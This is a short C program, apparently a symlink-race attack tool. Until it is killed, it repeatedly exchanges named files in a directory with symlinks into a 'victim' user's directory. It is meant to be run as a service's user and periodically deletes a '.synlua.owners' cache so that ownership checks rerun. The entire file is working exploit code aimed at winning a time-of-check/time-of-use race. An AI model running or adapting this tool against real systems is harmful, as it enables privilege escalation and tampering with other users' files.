/* swap DIRECTORY VICTIM PAUSE NAME...: exchanges each name of the directory with a link to the same name in the
   victim's directory, again and again, with a pause of so many microseconds, until it is killed. Run it as a service's
   user. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    char links[64][64], target[4096];
    unsigned long turns = 0;
    int i;

    if (argc < 5 || argc > 67 || chdir(argv[1]) < 0)
        return 64;
    for (i = 4; i < argc; i++) {
        const char *name = argv[i], *last = name;
        const char *at;

        for (at = name; *at; at++)
            if (*at == '/')
                last = at + 1;
        (void)snprintf(target, sizeof target, "%s/%s", argv[2], last);
        (void)snprintf(links[i - 4], sizeof links[0], ".swap-%d", i);
        (void)unlink(links[i - 4]);
        if (symlink(target, links[i - 4]) < 0)
            perror(name);
    }
    for (;;) {
        for (i = 4; i < argc; i++)
            if (renameat2(AT_FDCWD, argv[i], AT_FDCWD, links[i - 4], RENAME_EXCHANGE) < 0)
                (void)rename(links[i - 4], argv[i]); /* it is not there yet */
        if (atoi(argv[3]) > 0)
            (void)usleep((useconds_t)atoi(argv[3]));
        if ((++turns & 63) == 0)
            (void)unlink(".synlua.owners"); /* so that owners are looked at again */
    }
}
